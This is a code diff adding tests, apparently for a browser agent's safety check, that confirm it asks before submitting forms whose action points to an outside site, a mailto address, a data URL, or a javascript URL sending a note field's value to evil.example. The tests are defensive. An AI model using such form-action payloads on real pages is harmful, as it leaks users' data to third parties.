@@ -72,6 +72,24 @@ test.each([
 });
 
 test.each([
+  ['another site', 'https://evil.example/take'],
+  ['a mail address', 'mailto:t.fox@evil.example'],
+  ['a script', "javascript:location = 'https://evil.example/' + f.note.value"],
+  ['a text of its own', 'data:text/html,<p>Taken'],
+])('asks before it sends a form to %s, and nothing is sent meanwhile', async (_, action) => {
+  const world = await filled(`<form id="f" action="${action}">${NOTE}<button>Help</button></form>`);
+  for (const [tool, words] of [
+    ['click', 'button "Help"'],
+    ['press', 'textbox "Note"'],
+  ] as const)
+    expect(await weigh(world, tool, { ref: world.ref(words), key: 'Enter' })).toMatchObject({
+      kind: 'ask',
+      scopes: ['once'],
+    });
+  expect(world.sent).toEqual([]);
+});
+
+test.each([
   ['Enter in the field', 'Enter', 'textbox "Note"'],
   ['Enter in another field of the form', 'Enter', 'textbox "Other"'],
   ['Enter on the button', 'Enter', 'button "Help"'],
